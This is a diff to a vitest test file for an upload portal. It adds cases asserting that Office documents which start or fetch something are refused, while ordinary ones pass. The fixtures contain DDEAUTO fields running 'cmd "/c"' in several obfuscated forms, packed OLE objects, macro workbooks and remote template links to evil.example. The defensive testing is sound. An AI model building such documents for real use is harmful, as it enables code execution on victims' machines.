@@ -4,7 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
-import { docx, pngBytes, zip } from '../../../test/files/samples.ts';
+import { docx, oleDocument, pngBytes, zip } from '../../../test/files/samples.ts';
 import type { TestClient } from '../../../test/support/client.ts';
 import { upload } from '../../../test/support/multipart.ts';
 import { testPortal } from '../../../test/support/portal.ts';
@@ -201,8 +201,28 @@ const relation = (type: string, target: string, more = 'TargetMode="External"') 
     `<?xml version="1.0"?>\n<Relationships><Relationship Id="rId1" Type="${typeOf(type)}" Target="${target}" ${more}/></Relationships>`,
   );
 
+const begin = '<w:fldChar w:fldCharType="begin"/>';
+const ofField = (code: string) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`;
+const inWord = (content: string | Buffer, name = 'word/header1.xml') => zip([...office, { name, content }]);
+
 describe('a document that makes an office program fetch or start something is refused, and no other', () => {
   test.each([
+    [
+      'a field that starts a program',
+      inWord(`<w:r>${begin}</w:r>${ofField(' DD')}${ofField('EAUTO cmd "/c"')}`),
+    ],
+    ['a field in one tag', inWord(`<w:fldSimple w:dirty="1" w:instr=' dde cmd "/c"'/>`, 'word/header')],
+    ['a field that another one makes', inWord(`${begin}${begin}${ofField('QUOTE 68 68 69')}`)],
+    ['a field in letters of numbers', inWord(`${begin}${ofField('DD&#69;AUTO cmd')}`)],
+    ['a field behind a comment', inWord(`${begin}${ofField('DD<!-- -->EAUTO cmd')}`)],
+    ['a field in other letters', inWord(Buffer.from('\ufeff<w:p/>', 'utf16le'))],
+    ['a field of more than a megabyte', inWord(ofField(randomBytes(900_000).toString('base64')))],
+    ['a text of another format', relation('aFChunk', 'chunk.rtf', '')],
+    ['a packed program as a picture', inWord(oleDocument('\u0001Ole10Native'), 'word/media/image1.png')],
+    [
+      'a workbook with macros',
+      inWord(zip([{ name: 'xl/vbaProject.bin', content: 'x' }]), 'word/embeddings/a.xlsx'),
+    ],
     ['a template', relation('attachedTemplate', 'https://evil.example/a.dotm')],
     ['a template of a share', relation('attachedTemplate', 'file:///\\\\evil.example\\a.dotm')],
     ['a template of a server', relation('attachedTemplate', '//evil.example/a.dotm')],
@@ -223,6 +243,16 @@ describe('a document that makes an office program fetch or start something is re
   });
 
   test.each([
+    [
+      'fields of its own',
+      inWord(
+        `<w:t>DDEAUTO</w:t>${begin}${ofField('TOC \\o "1-3"')}<w:fldChar w:fldCharType="separate"/>${begin}`,
+      ),
+    ],
+    [
+      'a workbook inside',
+      inWord(zip([{ name: 'xl/workbook.xml', content: '<x/>' }]), 'word/embeddings/a.xlsx'),
+    ],
     ['a link', relation('hyperlink', 'https://example.org/?a=1&amp;b=2&#233;')],
     ["how the author's printer is set up", zip([...office, settingsOfPrinter])],
     ["its author's template", relation('attachedTemplate', "file:///C:\\Users\\O'Brien\\Letter.dotx")],
